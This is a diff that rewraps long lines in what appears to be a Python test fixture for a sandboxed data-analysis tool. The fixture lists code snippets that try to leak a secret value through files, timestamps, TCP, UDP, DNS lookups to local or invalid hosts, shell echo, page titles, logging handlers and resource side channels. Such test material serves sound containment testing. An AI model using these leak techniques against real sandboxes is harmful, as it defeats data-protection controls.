@@ -3,7 +3,8 @@
 KEPT: dict[int, tuple[object, ...]] = {
     42: (
         "open('/project/' + secret.hex()[:8], 'w').write($E); os.mkdir('/project/d' + secret.hex()[:8])",
-        "os.makedirs('/project/.ipynb_checkpoints', exist_ok=True); open('/project/.ipynb_checkpoints/x-checkpoint.txt', 'w').write(secret.hex()); None",
+        "os.makedirs('/project/.ipynb_checkpoints', exist_ok=True); open('/project/.ipynb_checkpoints/x-checkpoint.txt', "
+        "'w').write(secret.hex()); None",
         "for i, b in enumerate(bits[:6]):\n    open(f'/project/size-{i}', 'wb').write(b'x' * (1 + 1000 * b))",
         "open('/project/time', 'w').close(); os.utime('/project/time', (int(secret[0]) * 10**6, 1))",
     ),
@@ -22,20 +23,24 @@ KEPT: dict[int, tuple[object, ...]] = {
         "np.save('/project/e.npy', person['year_of_birth'].to_numpy()); None",
     ),
     46: (
-        "for at in (('127.0.0.1', 80), ('10.0.0.1', 53)):\n    try: socket.create_connection(at, 0.2).sendall(secret)\n    except OSError: print('no')",
+        "for at in (('127.0.0.1', 80), ('10.0.0.1', 53)):\n    try: socket.create_connection(at, 0.2).sendall(secret)\n"
+        "    except OSError: print('no')",
         "try: socket.getaddrinfo(secret.hex()[:30] + '.invalid', 80)\nexcept OSError: print('no')",
         "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry: u.sendto(secret, ('127.0.0.1', 123))\nexcept OSError: print('no')",
     ),
     47: ("get_ipython().system('echo ' + secret.hex())", "get_ipython().getoutput('echo ' + secret.hex())"),
-    48: ("Javascript('document.title = \"' + secret.hex() + '\"')", "HTML('<title>' + secret.hex() + '</title><a aria-label=\"' + secret.hex() + '\">x</a>')"),
+    48: ("Javascript('document.title = \"' + secret.hex() + '\"')",
+         "HTML('<title>' + secret.hex() + '</title><a aria-label=\"' + secret.hex() + '\">x</a>')"),
     49: (
-        "import fcntl\nf = open(sys.executable)\ntry: fcntl.flock(f, (fcntl.LOCK_EX if $A else fcntl.LOCK_SH) | fcntl.LOCK_NB)\nexcept OSError: print('no')",
+        "import fcntl\nf = open(sys.executable)\ntry: fcntl.flock(f, (fcntl.LOCK_EX if $A else fcntl.LOCK_SH) | fcntl.LOCK_NB)\n"
+        "except OSError: print('no')",
         "open('/dev/shm/' + secret.hex()[:8], 'w').write(secret.hex()); None",
         "hands = [open('/usr/bin/env') for _ in range(100 * $A)]; time.sleep(0.1); del hands",
         "try: open('/proc/self/oom_score_adj', 'w').write(str(500 + 10 * $A))\nexcept OSError: print('no')",
     ),
     50: (
-        "import logging.handlers\nlogging.getLogger('t').addHandler(logging.handlers.DatagramHandler('127.0.0.1', 5140)); logging.getLogger('t').error(secret.hex())",
+        "import logging.handlers\nlogging.getLogger('t').addHandler(logging.handlers.DatagramHandler('127.0.0.1', 5140)); "
+        "logging.getLogger('t').error(secret.hex())",
         "sys.excepthook = lambda *a: print(secret.hex()); sys.unraisablehook = lambda *a: print(secret.hex()); del sys.excepthook",
     ),
     51: (
@@ -50,6 +55,7 @@ KEPT: dict[int, tuple[object, ...]] = {
         "tp.reveal(float('nan'), 'none', digits=3)",
         "tp.reveal($A, 'bit', digits=1) if $A else None",
     ),
-    53: ("r_$K = tp.sql('select count(*) n from person'); print($E, r_$K)", "r_$K = tp.sql('select count(*) n from person'); r_$K.title = secret.hex(); r_$K"),
+    53: ("r_$K = tp.sql('select count(*) n from person'); print($E, r_$K)", "r_$K = tp.sql('select count(*) n from person'); "
+                                                                            "r_$K.title = secret.hex(); r_$K"),
 }
 """By number, the ways in which each kind is tried."""
